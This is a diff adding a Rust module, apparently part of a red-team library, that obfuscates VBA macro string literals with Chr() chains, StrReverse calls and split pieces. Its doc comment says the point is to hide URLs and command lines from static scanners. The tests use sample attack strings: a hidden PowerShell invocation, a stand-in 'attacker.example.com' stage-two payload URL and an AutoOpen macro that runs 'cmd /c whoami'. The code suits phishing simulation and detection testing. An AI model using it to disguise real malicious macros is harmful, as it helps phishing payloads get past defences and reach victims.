@@ -0,0 +1,313 @@
+use crate::rng::SimpleRng;
+
+/// Most line continuations VBA accepts in one logical line.
+const MAX_CONTINUATIONS: usize = 24;
+
+/// Concatenation pieces written per physical line before continuing.
+const PIECES_PER_LINE: usize = 6;
+
+/// Quotes `value` as a VBA string literal, doubling embedded quotes.
+fn vba_quote(value: &str) -> String {
+    format!("\"{}\"", value.replace('"', "\"\""))
+}
+
+/// Builds the concatenation pieces of an expression evaluating to `value`.
+fn vba_string_pieces(value: &str, rng: &mut SimpleRng) -> Vec<String> {
+    match rng.next() % 3 {
+        0 => value
+            .chars()
+            .map(|c| {
+                if (c as u32) < 128 {
+                    format!("Chr({})", c as u32)
+                } else {
+                    format!("ChrW({})", c as u32)
+                }
+            })
+            .collect(),
+        1 => vec![format!(
+            "StrReverse({})",
+            vba_quote(&value.chars().rev().collect::<String>())
+        )],
+        _ => {
+            // Pieces of one to four characters, so no word survives whole
+            let chars: Vec<char> = value.chars().collect();
+            let mut pieces = Vec::new();
+            let mut start = 0;
+            while start < chars.len() {
+                let end = (start + 1 + (rng.next() % 4) as usize).min(chars.len());
+                pieces.push(vba_quote(&chars[start..end].iter().collect::<String>()));
+                start = end;
+            }
+            pieces
+        }
+    }
+}
+
+/// Obfuscates the string literals of a VBA macro for phishing simulations.
+///
+/// Each string literal is rebuilt at random as:
+///
+/// - A `Chr()` chain: `"cmd"` becomes `(Chr(99) & Chr(109) & Chr(100))`,
+///   with `ChrW()` for characters outside ASCII
+/// - A `StrReverse` call: `StrReverse("dmc")`
+/// - Literals split into one to four character pieces: `("cm" & "d")`
+///
+/// Long chains are split across physical lines with ` _` line
+/// continuations, staying within VBA's limit of 24 per logical line.
+/// Comments, empty strings and places that need constant expressions
+/// (`Const`, `Declare`, `Attribute`, `#If` lines and `Optional` parameter
+/// defaults) are left unchanged.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Hide URLs and command lines in Office macros from static scanners
+/// - **Blue Team**: Verify macro analysis (olevba, AMSI) deobfuscates string building
+///
+/// # Examples
+///
+/// ```
+/// use redstr::vba_obfuscate;
+/// let macro_code = "Shell \"calc.exe\", vbHide";
+/// let result = vba_obfuscate(macro_code);
+/// assert!(result.starts_with("Shell "));
+/// assert!(result.ends_with(", vbHide"));
+/// assert!(!result.contains("calc.exe"));
+/// ```
+pub fn vba_obfuscate(code: &str) -> String {
+    let mut rng = SimpleRng::new();
+    let mut lines = Vec::new();
+    // Continuations already used by the logical line the current line belongs to
+    let mut used = 0;
+
+    for line in code.split('\n') {
+        let trimmed = line.trim_start().to_ascii_lowercase();
+        let constant = ["const ", "private const ", "public const ", "#"]
+            .iter()
+            .any(|prefix| trimmed.starts_with(prefix))
+            || trimmed.contains("declare ")
+            || trimmed.starts_with("attribute ")
+            || trimmed.starts_with("rem ");
+        if constant {
+            lines.push(line.to_string());
+        } else {
+            lines.push(obfuscate_line(line, &mut used, &mut rng));
+        }
+        if line.trim_end().ends_with(" _") {
+            used += 1;
+        } else {
+            used = 0;
+        }
+    }
+
+    lines.join("\n")
+}
+
+/// Rewrites the string literals of one physical line.
+fn obfuscate_line(line: &str, used: &mut usize, rng: &mut SimpleRng) -> String {
+    let chars: Vec<char> = line.chars().collect();
+    let mut out = String::new();
+    let mut i = 0;
+
+    while i < chars.len() {
+        match chars[i] {
+            '\'' => {
+                out.extend(&chars[i..]);
+                break;
+            }
+            '"' => {
+                let mut end = i + 1;
+                let mut value = String::new();
+                while end < chars.len() {
+                    if chars[end] == '"' {
+                        if chars.get(end + 1) == Some(&'"') {
+                            value.push('"');
+                            end += 2;
+                            continue;
+                        }
+                        break;
+                    }
+                    value.push(chars[end]);
+                    end += 1;
+                }
+                // `Optional x As String = "..."` defaults must be constant expressions
+                let parameter = out.rsplit([',', '(']).next().unwrap_or("");
+                let default = parameter
+                    .trim_start()
+                    .to_ascii_lowercase()
+                    .starts_with("optional ");
+                if end >= chars.len() || value.is_empty() || default {
+                    // Unterminated, empty or default literal: keep as written
+                    let stop = (end + 1).min(chars.len());
+                    out.extend(&chars[i..stop]);
+                    i = stop;
+                    continue;
+                }
+                let pieces = vba_string_pieces(&value, rng);
+                if pieces.len() == 1 {
+                    out.push_str(&pieces[0]);
+                } else {
+                    out.push('(');
+                    for (n, piece) in pieces.iter().enumerate() {
+                        if n > 0 {
+                            if n % PIECES_PER_LINE == 0 && *used < MAX_CONTINUATIONS {
+                                out.push_str(" _\n        & ");
+                                *used += 1;
+                            } else {
+                                out.push_str(" & ");
+                            }
+                        }
+                        out.push_str(piece);
+                    }
+                    out.push(')');
+                }
+                i = end + 1;
+            }
+            c => {
+                out.push(c);
+                i += 1;
+            }
+        }
+    }
+
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Evaluates the string expressions `vba_obfuscate` emits, left to right.
+    fn eval_strings(code: &str) -> String {
+        let code = code.replace(" _\n        & ", " & ");
+        let chars: Vec<char> = code.chars().collect();
+        let starts = |i: usize, prefix: &str| {
+            chars[i..]
+                .iter()
+                .copied()
+                .take(prefix.len())
+                .eq(prefix.chars())
+        };
+        let mut out = String::new();
+        let mut i = 0;
+        while i < chars.len() {
+            if starts(i, "ChrW(") || starts(i, "Chr(") {
+                let open = i + chars[i..].iter().position(|&c| c == '(').unwrap();
+                let close = open + chars[open..].iter().position(|&c| c == ')').unwrap();
+                let code: String = chars[open + 1..close].iter().collect();
+                out.push(char::from_u32(code.parse().unwrap()).unwrap());
+                i = close + 1;
+            } else if starts(i, "StrReverse(\"") {
+                let (value, used) = read_literal(&chars[i + 11..]);
+                out.extend(value.chars().rev());
+                i += 11 + used + 1;
+            } else if chars[i] == '"' {
+                let (value, used) = read_literal(&chars[i..]);
+                out.push_str(&value);
+                i += used;
+            } else if starts(i, " & ") {
+                i += 3;
+            } else {
+                if chars[i] != '(' && chars[i] != ')' {
+                    out.push(chars[i]);
+                }
+                i += 1;
+            }
+        }
+        out
+    }
+
+    /// Reads a quoted literal at the start of `chars`, returning its value and length.
+    fn read_literal(chars: &[char]) -> (String, usize) {
+        let mut value = String::new();
+        let mut end = 1;
+        loop {
+            if chars[end] == '"' {
+                if chars.get(end + 1) == Some(&'"') {
+                    value.push('"');
+                    end += 2;
+                    continue;
+                }
+                return (value, end + 1);
+            }
+            value.push(chars[end]);
+            end += 1;
+        }
+    }
+
+    #[test]
+    fn test_vba_obfuscate_round_trip() {
+        for _ in 0..30 {
+            let result = vba_obfuscate("x = \"powershell -nop -w hidden\"");
+            assert!(!result.contains("powershell"), "{}", result);
+            assert_eq!(eval_strings(&result), "x = powershell -nop -w hidden");
+        }
+    }
+
+    #[test]
+    fn test_vba_obfuscate_quotes_and_unicode() {
+        for _ in 0..30 {
+            let result = vba_obfuscate("MsgBox \"say \"\"hé\"\"\"");
+            assert_eq!(eval_strings(&result), "MsgBox say \"hé\"", "{}", result);
+        }
+    }
+
+    #[test]
+    fn test_vba_obfuscate_line_continuations() {
+        let url = "http://attacker.example.com/payload/stage2.ps1";
+        let mut continued = false;
+        for _ in 0..30 {
+            let result = vba_obfuscate(&format!("u = \"{}\"", url));
+            continued |= result.contains(" _\n");
+            assert!(result.matches(" _\n").count() <= MAX_CONTINUATIONS);
+            assert_eq!(eval_strings(&result), format!("u = {}", url));
+        }
+        assert!(continued);
+    }
+
+    #[test]
+    fn test_vba_obfuscate_continuation_limit() {
+        let long = "a".repeat(400);
+        for _ in 0..10 {
+            let result = vba_obfuscate(&format!("s = \"{}\"", long));
+            assert!(result.matches(" _\n").count() <= MAX_CONTINUATIONS);
+        }
+    }
+
+    #[test]
+    fn test_vba_obfuscate_keeps_comments_and_constants() {
+        let code = "' run \"calc\"\nConst P = \"calc\"\nPrivate Declare PtrSafe Function F Lib \"kernel32\" ()\ns = \"\" ' \"x\"";
+        let result = vba_obfuscate(code);
+        assert_eq!(result, code);
+    }
+
+    #[test]
+    fn test_vba_obfuscate_keeps_attributes() {
+        let code = "Attribute VB_Name = \"Module1\"\nattribute VB_Description = \"Loader\"";
+        assert_eq!(vba_obfuscate(code), code);
+    }
+
+    #[test]
+    fn test_vba_obfuscate_keeps_optional_defaults() {
+        for _ in 0..10 {
+            let code =
+                "Sub Run(ByVal a As String, Optional b As String = \"cmd\", Optional c = \"/c\")";
+            assert_eq!(vba_obfuscate(code), code);
+            let result = vba_obfuscate("Run \"calc.exe\", Optional_ = \"x\"");
+            assert!(!result.contains("calc.exe"), "{}", result);
+        }
+    }
+
+    #[test]
+    fn test_vba_obfuscate_multiple_lines() {
+        for _ in 0..10 {
+            let code = "Sub AutoOpen()\n    Shell \"cmd /c whoami\", 0\nEnd Sub";
+            let result = vba_obfuscate(code);
+            assert!(result.starts_with("Sub AutoOpen()\n    Shell "));
+            assert!(result.ends_with(", 0\nEnd Sub"));
+            assert_eq!(
+                eval_strings(&result),
+                "Sub AutoOpen\n    Shell cmd /c whoami, 0\nEnd Sub"
+            );
+        }
+    }
+}